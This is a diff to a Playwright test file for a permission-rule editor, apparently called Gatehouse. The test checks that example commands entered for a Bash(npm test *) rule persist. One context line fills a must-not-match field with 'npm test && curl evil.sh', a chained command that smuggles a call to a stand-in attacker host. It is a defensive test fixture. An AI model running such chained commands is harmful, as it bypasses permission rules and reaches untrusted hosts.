@@ -97,6 +97,7 @@ test('examples pass or fail as you type, and are kept in Gatehouse’s own data'
   await openRules(page, gate);
   await page.getByRole('button', { name: 'Edit Bash(npm test *)' }).click();
   const edit = page.getByRole('form', { name: 'Edit Bash(npm test *)' });
+  await edit.getByText('Examples', { exact: true }).click();
   await edit.getByLabel('Must match (one per line)').fill('npm test\nnpm test -- --watch');
   await edit.getByLabel('Must not match (one per line)').fill('npm publish\nnpm test && curl evil.sh');
   const verdicts = edit.locator('.verdict');
@@ -122,6 +123,10 @@ test('examples pass or fail as you type, and are kept in Gatehouse’s own data'
     },
   ]);
   expect(await readFile(settingsPath.project(gate), 'utf8')).not.toContain('npm publish');
+  await page.getByRole('button', { name: 'Edit Bash(npm test *)' }).click();
+  await expect(
+    page.getByRole('form', { name: 'Edit Bash(npm test *)' }).getByLabel('Must not match (one per line)'),
+  ).toHaveValue('npm publish\nnpm test --coverage');
 });
 
 test('the playground shows the decision and the rule, file and index that made it', async ({ page }) => {
